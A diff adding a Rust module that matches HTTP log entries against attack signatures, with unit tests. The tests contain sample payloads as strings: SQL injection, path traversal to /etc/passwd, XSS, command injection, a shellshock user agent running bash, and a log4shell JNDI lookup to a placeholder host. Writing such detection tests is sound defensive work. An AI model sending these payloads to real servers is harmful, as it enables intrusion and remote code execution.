@@ -0,0 +1,252 @@
+use std::env;
+use std::fs;
+
+use db::schema::{DbLogEntry, EventType, ThreatLevel};
+use regex::{Regex, RegexBuilder};
+use serde::Deserialize;
+
+use crate::models::log::LogEntry;
+
+/// The rules used unless `HTTP_SIGNATURES` overrides them, in the rules file format.
+const BUILTIN: &str = include_str!("signatures.json");
+
+/// The part of a request a rule is matched against.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Field {
+    /// The request line, e.g. `GET /search?q=x HTTP/1.1`.
+    #[default]
+    Request,
+    UserAgent,
+}
+
+#[derive(Deserialize)]
+struct RuleSpec {
+    name: String,
+    event_type: EventType,
+    threat_level: ThreatLevel,
+    #[serde(default)]
+    field: Field,
+    pattern: String,
+}
+
+/// A known attack, recognised by a case-insensitive pattern.
+#[derive(Debug, Clone)]
+pub struct Rule {
+    pub name: String,
+    pub event_type: EventType,
+    pub threat_level: ThreatLevel,
+    pub field: Field,
+    pattern: Regex,
+}
+
+/// Attack signatures, such as SQL injection or scanner paths, matched against
+/// single HTTP requests.
+#[derive(Debug, Clone, Default)]
+pub struct Signatures {
+    rules: Vec<Rule>,
+}
+
+impl Signatures {
+    /// Parses a rules file: a JSON array of objects with `name`, `event_type`,
+    /// `threat_level`, `pattern` and optionally `field` (`request` or `user_agent`).
+    pub fn parse(json: &str) -> Result<Self, String> {
+        let specs: Vec<RuleSpec> = serde_json::from_str(json).map_err(|e| format!("invalid rules: {}", e))?;
+        let rules = specs
+            .into_iter()
+            .map(|spec| {
+                let pattern = RegexBuilder::new(&spec.pattern)
+                    .case_insensitive(true)
+                    .build()
+                    .map_err(|e| format!("invalid pattern in rule {}: {}", spec.name, e))?;
+                Ok(Rule {
+                    name: spec.name,
+                    event_type: spec.event_type,
+                    threat_level: spec.threat_level,
+                    field: spec.field,
+                    pattern,
+                })
+            })
+            .collect::<Result<_, String>>()?;
+        Ok(Self { rules })
+    }
+
+    pub fn builtin() -> Self {
+        Self::parse(BUILTIN).expect("built-in signatures are valid")
+    }
+
+    /// The built-in rules, plus those in the file named by `HTTP_SIGNATURES`.
+    /// A rule in the file replaces the built-in rule of the same name.
+    pub fn from_env() -> Result<Self, String> {
+        let mut signatures = Self::builtin();
+        if let Ok(path) = env::var("HTTP_SIGNATURES") {
+            let json = fs::read_to_string(&path).map_err(|e| format!("cannot read {}: {}", path, e))?;
+            let file = Self::parse(&json).map_err(|e| format!("{}: {}", path, e))?;
+            signatures.rules.retain(|rule| !file.rules.iter().any(|other| other.name == rule.name));
+            signatures.rules.extend(file.rules);
+        }
+        Ok(signatures)
+    }
+
+    /// The most severe rule `entry` matches, the first of equally severe ones.
+    pub fn matching(&self, entry: &LogEntry) -> Option<&Rule> {
+        let request = entry.request.as_deref().map(decode);
+        let user_agent = entry.user_agent.as_deref();
+        self.rules
+            .iter()
+            .filter(|rule| {
+                let value = match rule.field {
+                    Field::Request => request.as_deref(),
+                    Field::UserAgent => user_agent,
+                };
+                value.is_some_and(|value| rule.pattern.is_match(value))
+            })
+            .fold(None, |worst: Option<&Rule>, rule| match worst {
+                Some(worst) if worst.threat_level >= rule.threat_level => Some(worst),
+                _ => Some(rule),
+            })
+    }
+
+    /// Sets the event type and threat level of `row` from the rule `entry`
+    /// matches, if it is more severe than the row's own.
+    pub fn apply(&self, entry: &LogEntry, row: &mut DbLogEntry) {
+        if let Some(rule) = self.matching(entry).filter(|rule| rule.threat_level >= row.threat_level) {
+            row.event_type = rule.event_type.clone();
+            row.threat_level = rule.threat_level;
+        }
+    }
+}
+
+/// `value` with percent-escapes and `+` decoded, twice to undo double encoding.
+fn decode(value: &str) -> String {
+    let once = percent_decode(value);
+    percent_decode(&once)
+}
+
+fn percent_decode(value: &str) -> String {
+    let bytes = value.as_bytes();
+    let mut decoded = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while i < bytes.len() {
+        let escaped = (bytes[i] == b'%')
+            .then(|| bytes.get(i + 1..i + 3))
+            .flatten()
+            .and_then(|hex| std::str::from_utf8(hex).ok())
+            .and_then(|hex| u8::from_str_radix(hex, 16).ok());
+        match (bytes[i], escaped) {
+            (_, Some(byte)) => {
+                decoded.push(byte);
+                i += 3;
+            }
+            (b'+', None) => {
+                decoded.push(b' ');
+                i += 1;
+            }
+            (byte, None) => {
+                decoded.push(byte);
+                i += 1;
+            }
+        }
+    }
+    String::from_utf8_lossy(&decoded).into_owned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use chrono::Utc;
+
+    use crate::ingest::classify::classify;
+    use crate::models::log::LogSource;
+
+    fn request(line: &str) -> LogEntry {
+        let mut entry = LogEntry::new(LogSource::NginxAccess, Utc::now(), line);
+        entry.ip_address = Some("198.51.100.4".to_string());
+        entry.request = Some(line.to_string());
+        entry.status_code = Some(200);
+        entry
+    }
+
+    fn rule(line: &str) -> Option<String> {
+        Signatures::builtin().matching(&request(line)).map(|rule| rule.name.clone())
+    }
+
+    #[test]
+    fn test_builtin_signatures() {
+        let cases = [
+            ("GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1", "sql-injection-union"),
+            ("GET /login?user=admin'%20or%20'1'='1 HTTP/1.1", "sql-injection-tautology"),
+            ("GET /item?id=1+AND+SLEEP(5) HTTP/1.1", "sql-injection-functions"),
+            ("GET /static/..%252f..%252f..%252fetc/passwd HTTP/1.1", "path-traversal"),
+            ("GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", "xss"),
+            ("GET /ping?host=127.0.0.1;cat%20/etc/hosts HTTP/1.1", "command-injection"),
+            ("GET /.env HTTP/1.1", "scanner-secrets"),
+            ("GET /.git/config HTTP/1.1", "scanner-secrets"),
+            ("GET /wp-admin/ HTTP/1.1", "scanner-admin"),
+            ("GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1", "log4shell"),
+            ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "phpunit-eval-stdin"),
+        ];
+        for (line, expected) in cases {
+            assert_eq!(rule(line).as_deref(), Some(expected), "{}", line);
+        }
+    }
+
+    #[test]
+    fn test_ordinary_requests_do_not_match() {
+        for line in [
+            "GET /index.html HTTP/1.1",
+            "GET /search?q=union+station&id=5&sort=asc HTTP/1.1",
+            "GET /products?category=shoes&ls=1 HTTP/1.1",
+            "GET /blog/environment-setup HTTP/1.1",
+            "POST /api/v1/orders HTTP/1.1",
+        ] {
+            assert_eq!(rule(line), None, "{}", line);
+        }
+    }
+
+    #[test]
+    fn test_user_agent_rules() {
+        let mut entry = request("GET / HTTP/1.1");
+        entry.user_agent = Some("() { :; }; /bin/bash -c 'id'".to_string());
+        let signatures = Signatures::builtin();
+        assert_eq!(signatures.matching(&entry).map(|rule| rule.name.as_str()), Some("shellshock"));
+
+        entry.user_agent = Some("sqlmap/1.7".to_string());
+        assert_eq!(signatures.matching(&entry).map(|rule| rule.name.as_str()), Some("scanner-user-agent"));
+    }
+
+    #[test]
+    fn test_apply_raises_the_row() {
+        let signatures = Signatures::builtin();
+        let entry = request("GET /../../../../etc/passwd HTTP/1.1");
+        let mut row = classify(&entry);
+        signatures.apply(&entry, &mut row);
+        assert_eq!(row.event_type, EventType::PathTraversal);
+        assert_eq!(row.threat_level, ThreatLevel::High);
+
+        // The most severe match wins: a scanner path that is also an exploit.
+        let entry = request("GET /.env?x=${jndi:ldap://a/b} HTTP/1.1");
+        let mut row = classify(&entry);
+        signatures.apply(&entry, &mut row);
+        assert_eq!(row.event_type, EventType::ExploitAttempt);
+        assert_eq!(row.threat_level, ThreatLevel::Critical);
+    }
+
+    #[test]
+    fn test_rules_file() {
+        let signatures = Signatures::parse(
+            r#"[{"name": "internal", "event_type": "Scanner Probe", "threat_level": "medium", "pattern": "^GET /internal/"}]"#,
+        )
+        .unwrap();
+        let rule = signatures.matching(&request("get /INTERNAL/metrics HTTP/1.1")).unwrap();
+        assert_eq!(rule.name, "internal");
+        assert_eq!(rule.field, Field::Request);
+        assert_eq!(rule.threat_level, ThreatLevel::Medium);
+
+        assert!(Signatures::parse(r#"[{"name": "bad", "event_type": "X", "threat_level": "High", "pattern": "("}]"#)
+            .unwrap_err()
+            .contains("rule bad"));
+        assert!(Signatures::parse(r#"[{"name": "bad", "event_type": "X", "threat_level": "Severe", "pattern": "x"}]"#)
+            .is_err());
+    }
+}